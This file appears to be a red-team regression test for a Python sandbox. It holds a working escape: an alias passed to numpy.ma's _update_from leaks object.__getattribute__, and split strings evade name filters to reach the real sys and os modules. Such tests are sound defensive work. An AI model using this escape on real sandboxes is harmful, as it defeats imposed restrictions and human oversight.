# (data policy) The fix of 162 refused a class or module given to numpy.ma's
# MaskedArray._update_from(obj), judged by the TYPE of obj. An alias is neither, yet forwards
# `__dict__` to its origin: `type(list[int])` is types.GenericAlias, and
# `GenericAlias(object, int).__dict__` is object's mappingproxy (136's trick; a bound method made
# of a class, 137, does the same). numpy copies it into the plain dict `m._optinfo`, holding the
# class's RAW entries: the slot wrapper object.__getattribute__ as a value, an attribute read by
# a name built at run time past every getattr rule. Class: a library copies a class's namespace
# into something plain (107/111/136/162), judged by type instead of by what `__dict__` gives.
# Found by an eighth red-team review (data policy).
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "163_ma_update_from_alias_dict"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import numpy as np

alias = type(list[int])(object, int)  # object[int]: reads forwarded to object
m = np.ma.masked_array([1.0, 2.0])
m._update_from(alias)                 # _optinfo.update(alias.__dict__): object's namespace
read = m._optinfo["__getattr" + "ibute__"]  # object.__getattribute__, a value
namespace = read(np.who, "__glo" + "bals__")  # numpy/lib/utils.py's globals
real_sys = namespace["sys"]
won("%s os=%s modules=%d" % (real_sys, namespace["os"], len(real_sys.modules)))
